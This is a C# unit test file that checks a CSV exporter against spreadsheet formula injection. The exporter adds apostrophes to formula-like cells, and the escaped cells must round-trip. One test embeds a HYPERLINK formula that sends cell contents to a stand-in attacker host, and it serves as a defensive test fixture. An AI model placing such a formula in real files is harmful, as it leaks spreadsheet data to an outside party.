using Entente.Interchange.Formats.Csv;
using Entente.Interchange.Tests.Importing;
using Entente.TestSupport;

namespace Entente.Interchange.Tests.Exporting;

/// <summary>CSV exports are inert in a spreadsheet (OWASP CSV injection) and still re-import to the same claims.</summary>
public sealed class CsvInjectionTests
{
    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+49 30", "'+49 30")]
    [InlineData("-2", "'-2")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tcmd", "'\tcmd")]
    [InlineData("\r=1", "\"'\r=1\"")]
    [InlineData("'=1", "''=1")]
    [InlineData("Iran", "Iran")]
    [InlineData("'quoted'", "'quoted'")]
    [InlineData("a=b", "a=b")]
    [InlineData("=a,b", "\"'=a,b\"")]
    public void A_cell_starting_like_a_formula_gets_a_leading_apostrophe(string value, string cell)
    {
        Assert.Equal(cell, CsvCell.Of(value));
        var unquoted = cell.StartsWith('"') ? cell[1..^1].Replace("\"\"", "\"") : cell;
        Assert.Equal(value, CsvCell.Restore(unquoted));
    }

    [Fact]
    public async Task Hostile_evidence_is_exported_inert_and_reimports_to_the_same_claim()
    {
        using var dir = new TempDir();
        var hostile = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Iran armed Russia\")";
        await File.WriteAllTextAsync(dir.File("in.csv"),
            "subject,relation,object,from,evidence\nIran,arms-transfer,Russia,2022,\"" + hostile.Replace("\"", "\"\"") + "\"\n", TestContext.Current.CancellationToken);
        var imported = await Collect.FileAsync("csv", dir.File("in.csv"));
        var claim = Assert.Single(imported.Claims);
        Assert.Equal(hostile, claim.Evidence.Text);

        await Export.ToFileAsync(new ClaimCsvExporter(), imported.Claims, dir.File("out.csv"));
        var exported = await File.ReadAllTextAsync(dir.File("out.csv"), TestContext.Current.CancellationToken);
        var again = await Collect.FileAsync("csv", dir.File("out.csv"));

        Assert.Contains(",\"'=HYPERLINK(", exported);
        Assert.DoesNotContain(",\"=HYPERLINK(", exported);
        Assert.Equal(hostile, Assert.Single(again.Claims).Evidence.Text);
    }
}
